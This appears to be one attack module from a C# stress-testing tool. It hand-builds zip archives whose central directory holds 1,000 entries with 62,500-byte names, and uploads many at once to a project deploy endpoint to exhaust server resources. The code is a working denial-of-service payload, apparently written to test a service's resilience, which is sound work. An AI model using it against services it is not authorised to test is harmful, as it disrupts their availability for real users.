using System.Buffers.Binary;
using System.Globalization;
using System.Text;
using EdgeAttacks.Clients;

namespace EdgeAttacks.Attacks;

/// <summary>Archives that are nothing but a directory of very long names.</summary>
internal sealed class LongNames() : Attack(
    "names",
    "8. Archives of long names",
    "Uploads at once of zip archives with 1,000 entries, each with a name of 62,500 bytes and no content: 60 MB of names in each.",
    size: 4)
{
    private const int Entries = 1000;
    private const int NameBytes = 62_500;

    // APPNOTE 4.3.12 and 4.3.16 (https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT).
    private const int HeaderBytes = 46;
    private const int EndBytes = 22;
    private const int DirectoryBytes = Entries * (HeaderBytes + NameBytes);

    // What is left of it after the answers: enough calls to judge by.
    private static readonly TimeSpan Least = TimeSpan.FromSeconds(8);

    public override TimeSpan Window => TimeSpan.FromSeconds(60);

    public override async Task RunAsync(AttackScene scene, CancellationToken cancellationToken)
    {
        await scene.ConnectAsync(UploadAsync, cancellationToken);
        await Task.WhenAll(scene.HoldUntilCutAsync(cancellationToken), Task.Delay(Least, cancellationToken));
    }

    private static async Task UploadAsync(AttackConnection connection, int number, CancellationToken cancellationToken)
    {
        var entry = new byte[HeaderBytes + NameBytes];
        entry.AsSpan().Fill((byte)'n');
        entry.AsSpan(0, HeaderBytes).Clear();
        BinaryPrimitives.WriteUInt32LittleEndian(entry, 0x02014b50);
        BinaryPrimitives.WriteUInt16LittleEndian(entry.AsSpan(28), NameBytes);
        var head = RawRequest.Post($"/api/v1/projects/names-{number}/deploy", DirectoryBytes + EndBytes, "application/zip");
        var isSent = await connection.TrySendAsync(head, cancellationToken);
        for (var i = 0; i < Entries && isSent; i++)
        {
            Encoding.ASCII.GetBytes(i.ToString("00000000", CultureInfo.InvariantCulture), entry.AsSpan(HeaderBytes));
            isSent = await connection.TrySendAsync(entry, cancellationToken);
        }

        var end = new byte[EndBytes];
        BinaryPrimitives.WriteUInt32LittleEndian(end, 0x06054b50);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(8), Entries);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(10), Entries);
        BinaryPrimitives.WriteUInt32LittleEndian(end.AsSpan(12), DirectoryBytes);
        await connection.TrySendAsync(end, cancellationToken);
    }
}
